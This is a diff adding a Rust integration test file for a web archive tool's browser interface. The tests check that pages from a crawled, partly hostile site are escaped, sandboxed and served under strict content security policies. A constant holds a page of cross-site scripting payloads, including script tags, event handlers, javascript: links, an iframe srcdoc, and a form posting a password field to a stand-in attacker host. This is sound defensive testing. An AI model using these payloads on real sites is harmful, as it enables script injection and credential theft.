@@ -1,0 +1,225 @@
+//! Can a collection be read in a browser, from its account down to the bytes of a page, without
+//! anything from the web acting in our name?
+//!
+//! A small site, part of it hostile, is crawled, changed and tracked. Then every screen is asked
+//! for as somebody who may read it.
+#![allow(clippy::unwrap_used, reason = "what goes wrong here fails the test")]
+
+mod harness;
+
+use harness::orb::{Home, PROJECT};
+use harness::script::{Heard, Script, absent, moved, reply};
+use harness::served::{HttpReply, Served, add_user};
+use serde_json::Value;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+
+/// A page that tries everything: its title, its words, its pictures, its address.
+const HOSTILE: &str = "<title><script>alert('title')</script></title><h1 onclick=alert(1)>Hostile weather</h1>\
+    <script>alert('body')</script><img src=x onerror=alert(2) alt='\"><script>alert(3)</script>'><svg onload=alert(4)>\
+    <a href='javascript:alert(5)'>run</a> <a href='/?<script>'>home</a><iframe srcdoc='<script>alert(6)</script>'></iframe>\
+    <style>body{background:url(http://evil.test/)}</style><form action=http://evil.test/><input name=password></form>";
+
+fn answer(heard: &Heard, is_later: bool) -> Vec<u8> {
+    let html = |body: &str| reply("200 OK", "Content-Type: text/html\r\n", &format!("<!doctype html>{body}"));
+    match heard.target.as_str() {
+        "/" => html(
+            "<title>Start</title><p>Welcome to the library of weather.</p><a href=/rain>about the rain</a> \
+             <a href=/hostile>hostile</a> <a href=/gone>gone</a> <a href=/moved>moved</a> <a href=/notes.txt>notes</a>",
+        ),
+        "/rain" if is_later => html("<title>Rain</title><p>The rain falls on the hills.</p><p>It is wet.</p>"),
+        "/rain" => html("<title>Rain</title><p>The rain falls on the plains.</p><p>It is wet.</p>"),
+        "/hostile" => html(HOSTILE),
+        "/moved" => moved("/rain"),
+        "/notes.txt" => reply("200 OK", "Content-Type: text/plain\r\n", "<b>notes</b>"),
+        _ => absent(),
+    }
+}
+
+/// A home whose project was crawled and tracked, served to somebody who may read it.
+struct Reading {
+    _script: Script,
+    _home: Home,
+    served: Served,
+    cookie: String,
+}
+
+impl Reading {
+    fn new() -> Self {
+        let later = Arc::new(AtomicBool::new(false));
+        let is_later = Arc::clone(&later);
+        let script = Script::serve(move |heard| answer(heard, is_later.load(Ordering::SeqCst)));
+        let home = Home::new();
+        home.crawl(&[&format!("http://{}/", script.address), "--delay", "0", "--per-host", "1"]);
+        later.store(true, Ordering::SeqCst);
+        home.orb(&["track", PROJECT, "--progress", "none"]).expect(0);
+        home.orb(&["graph", "build", PROJECT]).expect(0);
+        add_user(&home, "bob", &[]);
+        home.orb(&["user", "grant", "bob", PROJECT, "read"]).expect(0);
+        let served = Served::start(&home, &[]);
+        let reply = served.post("/login", &[], "name=bob&password=a+password&next=/");
+        let cookie = reply.cookie().unwrap().to_owned();
+        Self { _script: script, _home: home, served, cookie }
+    }
+
+    fn get(&self, path: &str, accept: &str) -> HttpReply {
+        let path = if path.starts_with("/search") { path.to_owned() } else { format!("/p/{PROJECT}{path}") };
+        self.served.get(&path, &[("Cookie", &self.cookie), ("Accept", accept)])
+    }
+
+    /// The page at a path below the project's, as a browser gets it.
+    fn page(&self, path: &str) -> String {
+        let reply = self.get(path, "text/html");
+        assert_eq!(reply.status, 200, "{path}: {}", reply.body);
+        assert_eq!(reply.header("content-type"), Some("text/html; charset=utf-8"), "{path}");
+        reply.body
+    }
+
+    /// The same as a program gets it.
+    fn json(&self, path: &str) -> Value {
+        let reply = self.get(path, "application/json");
+        assert_eq!((reply.status, reply.header("content-type")), (200, Some("application/json")), "{path}");
+        reply.json()
+    }
+
+    /// The number of the page at a path of the site.
+    fn id(&self, path: &str) -> u64 {
+        let found = self.json("/pages");
+        let ends = |page: &&Value| page["url"].as_str().unwrap().ends_with(path);
+        found["pages"].as_array().unwrap().iter().find(ends).unwrap()["id"].as_u64().unwrap()
+    }
+}
+
+/// Every screen of a project; `{rain}` and `{hostile}` are pages of it.
+const SCREENS: &[&str] = &[
+    "",
+    "/runs",
+    "/runs/2",
+    "/runs/2?flag=SAM",
+    "/runs/1/log",
+    "/changes",
+    "/changes?flag=UPD",
+    "/search?q=rain",
+    "/search?q=hostile",
+    "/pages",
+    "/pages?kind=HTML&status=2xx&mime=text/&url=rain",
+    "/pages/{hostile}",
+    "/pages/{hostile}/content",
+    "/pages/{rain}",
+    "/pages/{rain}/content",
+    "/pages/{rain}/diff",
+    "/hosts",
+    "/hosts/1",
+    "/health",
+    "/health/broken_link",
+    "/structure",
+    "/structure?by=hub&of=hosts",
+    "/sql?q=SELECT+url%2C+title+FROM+page",
+    "/words/rain",
+    "/words/ra*",
+];
+
+#[test]
+fn every_screen_is_shown_escaped_and_answers_programs_too() {
+    let reading = Reading::new();
+    let (rain, hostile) = (reading.id("/rain").to_string(), reading.id("/hostile").to_string());
+    for screen in SCREENS {
+        let path = screen.replace("{rain}", &rain).replace("{hostile}", &hostile);
+        let page = reading.page(&path);
+        assert!(page.contains("</html>") && page.contains("<main id=\"main\">"), "{path}");
+        for bad in ["<script>alert", "onclick=", "onerror=", "<svg onload", "href=\"javascript", "<style", " style="] {
+            assert!(!page.contains(bad), "{path} contains {bad}");
+        }
+        reading.json(&path);
+        for link in page.split("href=\"/").skip(1).map(|rest| rest.split('"').next().unwrap()) {
+            let link = format!("/{}", link.replace("&#38;", "&"));
+            let reply = reading.served.get(&link, &[("Cookie", &reading.cookie), ("Accept", "text/html")]);
+            assert!(reply.status == 200 || link.contains("/health?"), "{path} links to {link}: {}", reply.status);
+        }
+    }
+    let everywhere = reading.page("/search?q=plains+OR+hills+rain");
+    assert!(everywhere.contains("/pages/"), "{everywhere}");
+}
+
+#[test]
+fn the_account_of_a_run_leads_to_what_it_counts() {
+    let reading = Reading::new();
+    let project = reading.page("");
+    assert!(project.contains(&format!("href=\"/p/{PROJECT}/runs/2?flag=UPD\">1</a>")), "{project}");
+    let report = reading.json("/runs/2?flag=UPD");
+    assert_eq!((report["flags"]["UPD"].as_u64(), report["documents"].as_array().unwrap().len()), (Some(1), 1));
+    assert_eq!(report["known"], report["accounted"]);
+    let rain = reading.id("/rain");
+    assert_eq!(report["documents"][0]["page_id"], rain);
+    let difference = reading.page(&format!("/pages/{rain}/diff?to=2"));
+    assert!(difference.contains("<del>plains</del>") && difference.contains("<ins>hills</ins>"), "{difference}");
+    let record = reading.page(&format!("/pages/{rain}"));
+    assert!(record.contains("about the rain") && record.contains("class=\"flag UPD\""), "{record}");
+    assert_eq!(reading.get(&format!("/pages/{rain}/diff?by=x"), "text/html").status, 400);
+    assert_eq!(reading.get("/pages/999", "text/html").status, 404);
+    assert_eq!(reading.get("/runs/9", "text/html").status, 404);
+}
+
+#[test]
+fn archived_content_cannot_act() {
+    let reading = Reading::new();
+    let hostile = reading.id("/hostile");
+    let content = |query: &str| reading.get(&format!("/pages/{hostile}/content{query}"), "text/html");
+    let raw = content("?as=raw");
+    assert_eq!(raw.header("content-type"), Some("application/octet-stream"));
+    assert_eq!(raw.header("x-content-type-options"), Some("nosniff"));
+    assert!(raw.header("content-disposition").unwrap().starts_with("attachment; filename=\""));
+    assert!(raw.header("content-security-policy").unwrap().starts_with("sandbox; default-src 'none'"));
+    assert!(raw.body.contains(HOSTILE), "{}", raw.body);
+    for form in ["text", "markdown"] {
+        let text = content(&format!("?as={form}"));
+        assert_eq!(text.header("content-type"), Some("text/plain; charset=utf-8"));
+        assert!(text.body.contains("Hostile weather"), "{}", text.body);
+    }
+    let view = content("?as=view");
+    let policy = view.header("content-security-policy").unwrap();
+    assert!(policy.starts_with("sandbox allow-top-navigation-by-user-activation; default-src 'none'"), "{policy}");
+    assert!(!policy.contains("allow-scripts") && !policy.contains("unsafe"), "{policy}");
+    assert!(view.body.contains("<h1>Hostile weather</h1>"), "{}", view.body);
+    for bad in ["<script", "onclick", "onerror", "<svg", "javascript:", "<iframe", "<style", "<form", "<input", "evil"]
+    {
+        assert!(!view.body.contains(bad), "{bad}: {}", view.body);
+    }
+    assert_eq!(content("?as=html").status, 400);
+    assert_eq!(content("?run=9").status, 404);
+    let around = content("");
+    assert!(around.body.contains("<iframe class=\"view\" sandbox=\"allow-top-navigation-by-user-activation\""));
+    let start = reading.json("/pages")["pages"][0]["id"].as_u64().unwrap();
+    let view = reading.get(&format!("/pages/{start}/content?as=view"), "text/html").body;
+    let rain = format!("href=\"/p/{PROJECT}/pages/{}/content\" target=\"_top\"", reading.id("/rain"));
+    assert!(view.contains(&rain), "{view}");
+}
+
+#[test]
+fn lists_are_filtered_and_read_part_by_part() {
+    let reading = Reading::new();
+    let urls = |query: &str| {
+        let found = reading.json(&format!("/pages{query}"));
+        let pages = found["pages"].as_array().unwrap().clone();
+        pages
+            .iter()
+            .map(|page| page["url"].as_str().unwrap().rsplit('/').next().unwrap().to_owned())
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(urls("?status=4xx"), ["gone", "x", "?%3Cscript%3E"]);
+    assert_eq!(urls("?status=4xx&url=gone"), ["gone"]);
+    assert_eq!(urls("?kind=REDIRECT"), ["moved"]);
+    assert_eq!(urls("?mime=text/plain"), ["notes.txt"]);
+    assert_eq!(urls("?mime=text/plai"), [""; 0]);
+    assert_eq!(urls(&format!("?url=ain&after={}", reading.id("/rain") - 1)), ["rain"]);
+    assert_eq!(urls("?host=77"), [""; 0]);
+    for wrong in ["/pages?kind=NONE", "/pages?status=x", "/pages?after=x", "/hosts?after=x", "/changes?flag=x"] {
+        assert_eq!(reading.get(wrong, "text/html").status, 400, "{wrong}");
+    }
+    let csv = reading.get("/sql?as=csv&q=SELECT+1+AS+a%2C+%27%3Dx%27+AS+b", "text/html");
+    assert_eq!((csv.header("content-type"), csv.body.as_str()), (Some("text/csv; charset=utf-8"), "a,b\r\n1,'=x\r\n"));
+    let refused = reading.page("/sql?q=DELETE+FROM+page_row");
+    assert!(refused.contains("role=\"alert\""), "{refused}");
+    let completed = reading.json("/complete?q=wea");
+    assert_eq!(completed[0]["text"], "weather", "{completed}");
+}
